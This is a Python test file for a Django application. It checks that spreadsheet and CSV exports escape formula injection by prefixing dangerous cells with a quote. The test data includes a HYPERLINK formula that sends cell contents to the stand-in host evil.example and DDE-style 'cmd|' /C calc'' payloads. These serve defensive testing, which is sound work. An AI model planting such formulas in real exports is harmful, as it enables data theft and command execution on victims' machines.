"""Hole 11 of issue 18 (part): CSV/XLSX formula injection. A text cell of any export that begins with
= + - @, a tab or a carriage return is written with a leading ' so that Excel or WPS shows the text and
runs nothing: the ledger, the batch restriction answers and the audit log (the statistics report and
the assessment sheet call the same function before they are saved)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from yujing.cadres.models import Cadre
from yujing.core.cells import neutral, neutralise_workbook

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("张三", "张三"), ("a=1", "a=1"), (-5, -5), (None, None), ("", "")],
)
def test_neutral(value, written):
    assert neutral(value) == written


def test_a_workbook_is_neutralised_before_it_is_saved():
    book = Workbook()
    book.active.append(["=1+1", 3, "正常"])
    assert book.active["A1"].data_type == "f"  # openpyxl takes it for a formula
    neutralise_workbook(book)
    assert (book.active["A1"].value, book.active["A1"].data_type) == ("'=1+1", "s")


def _cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def test_the_ledger_escapes_a_formula_in_a_name(login, open_case):
    case = open_case("inquiry", "MH0001", on="2026-03-02")
    Cadre.objects.filter(pk=case.target_id).update(name=FORMULA)
    response = login("yjb").get("/documents/ledger.xlsx")
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content))
    assert "'" + FORMULA in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_the_batch_restriction_answers_escape_a_formula(login):
    book = Workbook()
    book.active.append(["姓名"])
    book.active.append(["@SUM(1+1)*cmd|' /C calc'!A0"])
    data = io.BytesIO()
    book.save(data)
    response = login("zuzhibu").post("/cases/restrictions/", {"file": SimpleUploadedFile("候选人.xlsx", data.getvalue()),
                                                             "download": "1"})
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_the_audit_log_csv_escapes_a_formula(login, users):
    auditor = users["shenji"]
    auditor.full_name = "-1+cmd"
    auditor.save(update_fields=["full_name"])
    client = login("shenji")
    client.get("/audit/export.csv")  # its own export is an event by the renamed auditor
    response = client.get("/audit/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    names = [row[2] for row in rows[1:]]
    assert "'-1+cmd" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
